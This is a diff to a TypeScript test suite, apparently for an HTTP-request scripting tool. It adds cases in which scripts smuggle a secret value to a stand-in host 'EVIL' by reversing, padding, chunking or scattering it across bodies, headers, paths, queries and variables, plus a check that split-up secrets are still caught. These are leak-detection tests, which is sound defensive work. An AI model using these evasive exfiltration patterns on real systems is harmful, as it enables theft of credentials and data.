@@ -46,6 +46,32 @@ const ways: Readonly<Record<string, Way>> = {
   'a capture by JSONPath': {
     text: '### a\n# @name a\nGET GOOD/?q=VALUE\n\n@x << body.$..target\n\n### b\n# @ref a\nPOST EVIL/\n\n{{x}}\n',
   },
+  'a long body': { text: `< {%\nrequest.body = [...${read}].reverse().join("") + "x".repeat(20_000);\n%}\nPOST EVIL/\n\nb\n` },
+  'a long value of a JSON body': {
+    text: `< {%\nrequest.body = JSON.stringify({ a: [...${read}].reverse().join("") + "x".repeat(20_000) });\n%}\nPOST EVIL/\n\n{}\n`,
+  },
+  'many values of a JSON body': {
+    text: `< {%\nrequest.body = JSON.stringify([...Array(300).keys()].map((i) => "n" + i).concat(${read}.match(/.{1,4}/g)));\n%}\nPOST EVIL/\n\n[]\n`,
+  },
+  'names in a JSON body': {
+    text: `< {%\nrequest.body = JSON.stringify(Object.fromEntries(${read}.match(/.{1,4}/g).map((x) => [x, true])));\n%}\nPOST EVIL/\n\n[]\n`,
+  },
+  'the name of a header': { text: `< {%\nrequest.headers["X-" + [...${read}].reverse().join("")] = "1";\n%}\nGET EVIL/\n` },
+  'its characters in a body': { text: `< {%\nrequest.body = JSON.stringify([...${read}]);\n%}\nPOST EVIL/\n\n[]\n` },
+  'its characters in a path': { text: `< {%\nrequest.url += [...${read}].join("/");\n%}\nGET EVIL/\n` },
+  'its characters in a query that it writes over another': {
+    text: `< {%\nrequest.url = request.url.replace("q", [...${read}].join("&"));\n%}\nGET EVIL/?q\n`,
+  },
+  'its characters in headers': { text: `< {%\n[...${read}].forEach((c, i) => (request.headers["X-" + i] = c));\n%}\nGET EVIL/\n` },
+  'a long variable': {
+    text: `< {%\ntool.setVar("x", [...${read}].reverse().join("") + "x".repeat(20_000));\n%}\nPOST EVIL/\n\n{{x}}\n`,
+  },
+  'one of many items of a variable': {
+    text: `< {%\ntool.setVar("x", [...Array(300).keys()].concat([...${read}].reverse().join("")));\n%}\nPOST EVIL/\n\n{{x[300]}}\n`,
+  },
+  'the long body of another request': {
+    text: `### a\n# @name a\n< {%\nrequest.body = [...${read}].reverse().join("") + "x".repeat(20_000);\n%}\nPOST GOOD/\n\nb\n\n### b\n# @ref a\nPOST EVIL/\n\n{{a.request.body}}\n`,
+  },
   'a column of a row of data': {
     text: `# @data rows.csv\n< {%\ntool.setVar("column", ${read});\n%}\nGET EVIL/{{column}}\n`,
     data: 'column\nplain\n',
@@ -132,8 +158,12 @@ describe('what may not go to every receiver, or may not be shown', () => {
       const shown = JSON.stringify(event, (_, v: unknown) => (v instanceof Map ? [...v] : v));
       for (const piece of event.kind === 'console' && !isAgent ? [value] : pieces)
         assert.ok(!shown.includes(piece), `${piece} is shown: ${shown.slice(0, 3000)}`);
+      const letters = lettersOf(shown);
+      for (const piece of event.kind === 'sending' ? pieces.map(lettersOf) : [])
+        assert.ok(!letters.includes(piece), `${piece} is shown apart: ${shown.slice(0, 3000)}`);
     }
   }
+  const lettersOf = (text: string): string => text.replaceAll(/[^A-Za-z0-9]/g, '');
   const pieces = [
     value.slice(0, 12),
     value.slice(-12),
